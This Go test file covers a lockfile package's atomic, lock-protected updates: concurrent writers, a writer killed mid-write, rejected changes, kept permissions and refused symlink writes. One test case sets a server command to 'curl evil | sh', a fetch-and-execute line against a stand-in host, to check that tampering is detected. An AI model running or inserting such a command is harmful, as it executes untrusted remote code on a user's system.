//go:build unix

package lockfile

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"sync"
	"syscall"
	"testing"

	"github.com/mcpsum/mcpsum/internal/testbin"
)

// TestMain lets the test binary act as a second writer process (see
// update_test.go) when re-executed with MCPSUM_LOCKFILE_CHILD set.
func TestMain(m *testing.M) {
	if mode := os.Getenv("MCPSUM_LOCKFILE_CHILD"); mode != "" {
		os.Exit(runChild(mode))
	}
	os.Exit(testbin.Run(m))
}

// runChild is the re-executed test binary's work (see TestMain):
//
//	update: MCPSUM_LOCKFILE_PATH, _PREFIX, _COUNT: add COUNT servers via Update
//	crash:  MCPSUM_LOCKFILE_PATH, _KILLAT: add a big server; after KILLAT bytes
//	        of the temporary file are written (0: all of them, just before the
//	        rename), print "mid-write" and block until the parent kills it.
func runChild(mode string) int {
	path := os.Getenv("MCPSUM_LOCKFILE_PATH")
	switch mode {
	case "update":
		n, _ := strconv.Atoi(os.Getenv("MCPSUM_LOCKFILE_COUNT"))
		for i := 0; i < n; i++ {
			if err := addServer(path, fmt.Sprintf("%s-%d", os.Getenv("MCPSUM_LOCKFILE_PREFIX"), i), 2); err != nil {
				fmt.Fprintln(os.Stderr, err)
				return 1
			}
		}
		return 0
	case "crash":
		killAt, _ := strconv.Atoi(os.Getenv("MCPSUM_LOCKFILE_KILLAT"))
		writeHook = func(written, total int) {
			if written >= killAt && killAt > 0 || written == total && killAt == 0 {
				fmt.Println("mid-write")
				select {} // wait for SIGKILL
			}
		}
		if err := addServer(path, "big", 400); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		fmt.Fprintln(os.Stderr, "wrote the whole file without reaching the kill point")
		return 1
	}
	return 2
}

func addServer(path, name string, tools int) error {
	return Update(path, func(f *File) error {
		if _, ok := f.Servers[name]; ok {
			return fmt.Errorf("server %s already there", name)
		}
		s := syntheticServer(tools)
		if err := NewServer(s); err != nil {
			return err
		}
		f.Generator = "mcpsum test"
		f.Servers[name] = s
		return nil
	})
}

func childCmd(t *testing.T, env ...string) *exec.Cmd {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "-test.run=^$")
	cmd.Env = append(os.Environ(), env...)
	return cmd
}

// TestUpdateConcurrent: goroutines and processes add entries at the same
// time; none may be lost.
func TestUpdateConcurrent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "mcp.lock")
	const goroutines, procs, each = 4, 3, 4
	var wg sync.WaitGroup
	errs := make(chan error, goroutines+procs)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < each; i++ {
				if err := addServer(path, fmt.Sprintf("g%d-%d", g, i), 2); err != nil {
					errs <- err
					return
				}
			}
		}()
	}
	for p := 0; p < procs; p++ {
		cmd := childCmd(t, "MCPSUM_LOCKFILE_CHILD=update", "MCPSUM_LOCKFILE_PATH="+path,
			fmt.Sprintf("MCPSUM_LOCKFILE_PREFIX=p%d", p), fmt.Sprintf("MCPSUM_LOCKFILE_COUNT=%d", each))
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := cmd.Wait(); err != nil {
				errs <- fmt.Errorf("child: %v: %s", err, stderr.String())
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if want := (goroutines + procs) * each; len(f.Servers) != want {
		t.Fatalf("%d entries, want %d: lost updates", len(f.Servers), want)
	}
	for g := 0; g < goroutines; g++ {
		for i := 0; i < each; i++ {
			if f.Servers[fmt.Sprintf("g%d-%d", g, i)] == nil {
				t.Errorf("entry g%d-%d lost", g, i)
			}
		}
	}
	if entries, _ := os.ReadDir(filepath.Dir(path)); len(entries) != 1 {
		t.Errorf("Update left files beside mcp.lock: %v", entries)
	}
}

// TestUpdateCrashMidWrite kills a writer (SIGKILL) while it holds the lock
// and is writing; the lockfile must be the old one, byte for byte, and the
// next writer must get the lock.
func TestUpdateCrashMidWrite(t *testing.T) {
	for _, killAt := range []int{1, 3 * writeChunk, 0} { // after the first chunk, mid-file, before the rename
		t.Run(strconv.Itoa(killAt), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "mcp.lock")
			if err := os.WriteFile(path, testdata(t, "lockfiles/valid.lock"), 0o640); err != nil {
				t.Fatal(err)
			}
			before, _ := os.ReadFile(path)
			cmd := childCmd(t, "MCPSUM_LOCKFILE_CHILD=crash", "MCPSUM_LOCKFILE_PATH="+path,
				"MCPSUM_LOCKFILE_KILLAT="+strconv.Itoa(killAt))
			out, err := cmd.StdoutPipe()
			if err != nil {
				t.Fatal(err)
			}
			var stderr bytes.Buffer
			cmd.Stderr = &stderr
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			line, _ := bufio.NewReader(out).ReadString('\n')
			if line != "mid-write\n" {
				cmd.Wait()
				t.Fatalf("child did not reach the write: %q %s", line, stderr.String())
			}
			if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
				t.Fatal(err)
			}
			cmd.Wait()
			after, err := os.ReadFile(path)
			if err != nil || !bytes.Equal(before, after) {
				t.Fatalf("lockfile changed or torn by a crashed writer (err %v, %d -> %d bytes)", err, len(before), len(after))
			}
			// The lock died with the process; the next writer succeeds.
			if err := addServer(path, "after-crash", 1); err != nil {
				t.Fatal(err)
			}
			f, err := Load(path)
			if err != nil || f.Servers["after-crash"] == nil || f.Servers["time"] == nil || f.Servers["big"] != nil {
				t.Fatalf("after crash: %v", err)
			}
			if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o640 {
				t.Errorf("permissions %v, want 0640 kept", fi.Mode().Perm())
			}
		})
	}
}

func TestUpdateFailuresLeaveFileUnchanged(t *testing.T) {
	valid := testdata(t, "lockfiles/valid.lock")
	errFn := errors.New("fn says no")
	tests := []struct {
		name  string
		start []byte
		fn    func(f *File) error
		check func(t *testing.T, err error)
	}{
		{"fn fails", valid, func(f *File) error {
			delete(f.Servers, "time")
			return errFn
		}, func(t *testing.T, err error) {
			if !errors.Is(err, errFn) {
				t.Errorf("want fn's error, got %v", err)
			}
		}},
		{"stale digests", valid, func(f *File) error {
			s := f.Servers["time"]
			s.Command = []string{"sh", "-c", "curl evil | sh"} // without NewServer
			return nil
		}, func(t *testing.T, err error) {
			if ie := asIntegrity(t, err); ie.Kind != "surface" || ie.Server != "time" {
				t.Errorf("got %+v", ie)
			}
		}},
		{"invalid policy", valid, func(f *File) error {
			f.Servers["time"].Policy.Taint.Sinks = []string{"no_such_tool"}
			return nil
		}, func(t *testing.T, err error) {
			if fe := asFormat(t, err); fe.Item != "policy.taint.sinks[0]" {
				t.Errorf("got %v", fe)
			}
		}},
		{"tampered existing file", bytes.Replace(valid, []byte("mcp-server-time==2026.8.18"), []byte("mcp-server-time==2026.8.19"), 1),
			func(f *File) error { t.Error("fn called on a tampered file"); return nil },
			func(t *testing.T, err error) { asIntegrity(t, err) }},
		{"malformed existing file", []byte(`{"lockfileVersion": 9, "servers": {}}`),
			func(f *File) error { t.Error("fn called on a malformed file"); return nil },
			func(t *testing.T, err error) { asFormat(t, err) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "mcp.lock")
			if err := os.WriteFile(path, tt.start, 0o600); err != nil {
				t.Fatal(err)
			}
			err := Update(path, tt.fn)
			if err == nil {
				t.Fatal("Update succeeded")
			}
			tt.check(t, err)
			after, _ := os.ReadFile(path)
			if !bytes.Equal(after, tt.start) {
				t.Error("the file changed")
			}
			entries, _ := os.ReadDir(filepath.Dir(path))
			if len(entries) != 1 { // mcp.lock only: no lock file, no temporary files
				t.Errorf("stray files: %v", entries)
			}
		})
	}
}

func TestUpdateCreatesAndKeepsPermissions(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "mcp.lock")
	old := syscall.Umask(0o022)
	defer syscall.Umask(old)
	if err := addServer(path, "one", 1); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(path)
	if err != nil || fi.Mode().Perm() != 0o644 {
		t.Fatalf("new file: %v %v, want 0644", err, fi.Mode())
	}
	f, _ := Load(path)
	if f.Version != 1 || len(f.Servers) != 1 {
		t.Fatalf("new file: version %d, %d servers", f.Version, len(f.Servers))
	}
	if err := os.Chmod(path, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := addServer(path, "two", 1); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("permissions %v, want 0600 kept", fi.Mode().Perm())
	}
	// A symbolic link (a cloned repository's mcp.lock → one of the user's
	// files) is never written through: its target, existing or not, stays
	// as it was, and the error names it for --lockfile.
	link := filepath.Join(dir, "link.lock")
	if err := os.Symlink("mcp.lock", link); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(path)
	var le *LinkError
	if err := addServer(link, "three", 1); !errors.As(err, &le) || le.Target != path {
		t.Fatalf("update through a link: %v, want a LinkError naming %s", err, path)
	}
	if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
		t.Error("the link's target was written")
	}
	dangling := filepath.Join(dir, "dangling.lock")
	if err := os.Symlink(filepath.Join(dir, "home", "planted"), dangling); err != nil {
		t.Fatal(err)
	}
	if err := addServer(dangling, "three", 1); !errors.As(err, &le) {
		t.Fatalf("update through a dangling link: %v, want a LinkError", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "home", "planted")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a file was created at a dangling link's target: %v", err)
	}
	// An Update that changes nothing leaves the file alone.
	st, _ := os.Stat(path)
	if err := Update(path, func(*File) error { return nil }); err != nil {
		t.Fatal(err)
	}
	if after, _ := os.Stat(path); !os.SameFile(st, after) {
		t.Error("a no-op Update rewrote the file")
	}
}
